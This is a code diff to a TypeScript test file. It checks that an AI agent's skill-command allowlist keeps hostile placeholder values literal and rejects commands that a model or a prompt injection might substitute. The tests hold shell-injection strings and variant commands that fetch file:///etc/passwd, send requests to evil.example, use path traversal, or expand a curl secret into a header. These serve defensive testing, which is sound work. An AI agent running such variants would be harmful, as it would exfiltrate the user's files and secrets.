@@ -6,7 +6,7 @@ import { existsSync, readdirSync, readFileSync } from "node:fs";
 import { join } from "node:path";
 import { pathToFileURL } from "node:url";
 import { describe, expect, it } from "vitest";
-import { emitTarget, inJsonString, openclawBrains, repoRoot, skillCommand } from "../../test/helpers.js";
+import { emitTarget, fillSkillCommand, inJsonString, openclawBrains, repoRoot, skillCommand, strictUriEncode } from "../../test/helpers.js";
 import openclaw from "./index.js";
 import { mcpToolName } from "./mcp-names.js";
 
@@ -40,32 +40,13 @@ const brains = openclawBrains();
 
 /** A hostile value for a placeholder: shell syntax that must stay literal (no `'`: the skill has the model write it encoded). */
 const HOSTILE = "it\\u0027s $HOME; `id` | sh *?[a] {b,c} $(x) ${y} \"q\" /../?a=b&c#d";
-/** encodeURIComponent that also encodes `!'()*`, as the skill tells the model to encode URL values. */
-const uriEncode = (s: string) => encodeURIComponent(s).replace(/[!'()*]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`);
-
 /**
- * A command as the model would run it: each argument placeholder filled with {@link HOSTILE} (or `url`
- * where the URL starts with the placeholder), written as the skill says: URL-encoded in the URL and in
- * `--url-query` values, JSON-escaped in the `--data-raw` body, as is in a header; curl's own `{{NAME}}`
- * variables (imported with `--variable %NAME`) are left as they are.
+ * A command as the model would run it ({@link fillSkillCommand}): each argument placeholder filled with
+ * {@link HOSTILE}, `url` where the URL starts with the placeholder, and 3 (`true` for `booleans`) where
+ * the body takes a JSON value.
  */
 function filledIn(command: string, url = "https://status.example.com/health?full=1", booleans = new Set<string>()): string {
-  const variables = new Set([...command.matchAll(/--variable '%([A-Za-z0-9_]+)/g)].map((m) => m[1]));
-  const words = command.match(/'[^']*'|\S+/g)!;
-  return words
-    .map((word, i) => {
-      const before = words[i - 1];
-      return word.replace(/\{\{(\w+)\}\}/g, (m, name: string, offset: number) => {
-        if (variables.has(name)) return m;
-        if (before === "-H") return HOSTILE;
-        // The skill says a value may not hold `{` where curl expands its own {{variables}}.
-        if (before === "--expand-header") return HOSTILE.replace(/[{}]/g, "");
-        // In the body: a JSON string's content, or (out of quotes) a JSON value.
-        if (before === "--data-raw") return inJsonString(word, offset) ? JSON.stringify(HOSTILE).slice(1, -1) : booleans.has(name) ? "true" : "3";
-        return offset === 1 && before !== "--url-query" ? url : uriEncode(HOSTILE);
-      });
-    })
-    .join(" ");
+  return fillSkillCommand(command, (name, place) => (place === "url-start" ? url : place === "body-value" ? (booleans.has(name) ? "true" : "3") : HOSTILE));
 }
 
 /** Commands that a model (or a prompt injection) might try instead of a skill's own: each must be an allowlist miss. */
@@ -79,8 +60,8 @@ function hostileVariants(command: string, booleans: Set<string>): [string, strin
   // A URL that starts with a placeholder picks the host (brain-format.md allows `url: "{{url}}"`), but only an http(s) URL.
   if (/ '\{\{\w+\}\}/.test(command)) variants.push(["a file: URL", filledIn(command, "file:///etc/passwd", booleans)]);
   else variants.push(["another host", filled.replace(/'https?:\/\/[^/']+/, "'https://evil.example")], ["curl's own variable sent elsewhere", filled.replace(/'https?:\/\/[^/']+/, "'https://evil.example/{{X}}")]);
-  if (/(?:'https?:\/\/[^']*\/[^']*|--url-query '[^']*)\{\{\w+\}\}/.test(command)) variants.push(["an unencoded URL value", filled.replace(uriEncode(HOSTILE), "x/../admin?y=1&z")]);
-  if (/'https?:\/\/[^']*\/\{\{\w+\}\}/.test(command)) variants.push(["a path value that is a dot segment", filled.replace(uriEncode(HOSTILE), "%2E%2e")], ["a path value that is a dot segment", filled.replace(uriEncode(HOSTILE), "..")]);
+  if (/(?:'https?:\/\/[^']*\/[^']*|--url-query '[^']*)\{\{\w+\}\}/.test(command)) variants.push(["an unencoded URL value", filled.replace(strictUriEncode(HOSTILE), "x/../admin?y=1&z")]);
+  if (/'https?:\/\/[^']*\/\{\{\w+\}\}/.test(command)) variants.push(["a path value that is a dot segment", filled.replace(strictUriEncode(HOSTILE), "%2E%2e")], ["a path value that is a dot segment", filled.replace(strictUriEncode(HOSTILE), "..")]);
   const variable = /--variable '%([A-Za-z0-9_]+)/.exec(command)?.[1];
   if (variable && /--expand-header '[^']*\{\{[a-z]\w*\}\}/.test(command)) variants.push(["a header value that names a secret curl would expand there", filled.replace(HOSTILE.replace(/[{}]/g, ""), `{{${variable}}}`)]);
   const body = /--data-raw ('[^']*')/.exec(command)?.[1] ?? "";
